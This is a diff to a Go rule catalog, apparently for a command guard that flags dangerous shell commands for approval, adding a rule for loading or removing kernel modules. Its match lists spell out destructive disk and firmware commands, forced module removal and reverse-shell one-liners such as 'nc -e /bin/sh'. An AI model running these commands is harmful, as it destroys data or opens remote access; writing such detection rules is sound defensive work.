@@ -66,6 +66,7 @@ const (
 	RuleDeviceWrite   = "approval.device-write"
 	RuleDD            = "approval.dd"
 	RuleDiskChange    = "approval.disk-change"
+	RuleKernel        = "approval.kernel-module"
 	RuleReverseShell  = "approval.reverse-shell"
 	RuleDevTCP        = "approval.dev-tcp"
 	RuleRemoteExec    = "approval.remote-exec"
@@ -296,6 +297,11 @@ var catalog = []Rule{
 		Match: []string{"debugfs -w -R 'rm /etc' /dev/sda", "xfs_repair -L /dev/sda1", "cryptsetup luksHeaderRestore /dev/sda --header-backup-file x",
 			"dmsetup remove_all --force", "flashrom -p internal -w bios.bin", "e2fsck -fy /dev/sda1", "tune2fs -O ^has_journal /dev/sdb1"},
 		NoMatch: []string{"debugfs -R stats /dev/sda1", "xfs_repair -n /dev/sda1", "e2fsck -n /dev/sda1", "tune2fs -l /dev/sda1", "dmsetup ls", "flashrom -p internal -r bios.bin"}},
+	{ID: RuleKernel, Tier: TierApproval,
+		Description: "load or remove kernel modules, or make the kernel drop devices",
+		Match: []string{"insmod /tmp/evil.ko", "rmmod -f nvme", "modprobe -r nvme", "modprobe /tmp/x.ko", "modprobe --remove-dependencies -r ahci",
+			"udevadm trigger --action=remove"},
+		NoMatch: []string{"lsmod", "modinfo nvme", "modprobe -n -v nvme", "udevadm info /dev/sda", "udevadm trigger --dry-run --action=remove"}},
 	{ID: RuleReverseShell, Tier: TierApproval,
 		Description: "reverse shell or network-exposed command execution",
 		Match: []string{"nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash h 1", "socat tcp:h:1 exec:/bin/sh",
